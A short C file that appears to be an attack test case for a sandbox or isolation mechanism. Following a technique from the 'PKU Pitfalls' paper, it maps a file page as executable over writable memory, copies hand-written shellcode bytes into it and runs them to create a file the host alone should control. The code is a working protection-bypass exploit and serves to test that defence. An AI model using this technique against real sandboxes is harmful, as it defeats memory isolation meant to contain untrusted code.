/* Tries: to have its own memory become code by a mapping over it that comes second
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020): two mappings of one page
 * Observed: A file that only the host may make.
 * Needs: linux, load
 * Run: constructor */
#include "attacks/attack.h"

FOREIGN(run)
{
    /* open(path, O_CREAT | O_WRONLY, 0600): data, over which a page of the library's own file is
     * mapped as code, and which is written again. */
    static const uint8_t code[] = {0xb8, SYS_open, 0, 0, 0, 0x0f, 0x05, 0xc3};
    char path[128];
    strcpy(path, at->path);
    strcpy(strrchr(path, '/'), "/hostile.so");
    uint8_t *page = POINTER(uint8_t, kernel6(SYS_mmap, 0, 8192, 3, 0x22, -1, 0));
    int file = (int)kernel3(SYS_open, ADDRESS(path), 0, 0);
    kernel6(SYS_mmap, ADDRESS(page), 4096, 5, 0x12, (uint64_t)file, 0);
    kernel6(SYS_mmap, ADDRESS(page), 4096, 3, 0x32, -1, 0);
    kernel3(SYS_close, (uint64_t)file, 0, 0);
    memcpy(page, code, sizeof(code));
    kernel3(SYS_mprotect, ADDRESS(page), 4096, 5);
    ((long (*)(const char *, int, int))page)(at->path, 0101, 0600);
    return 0;
}
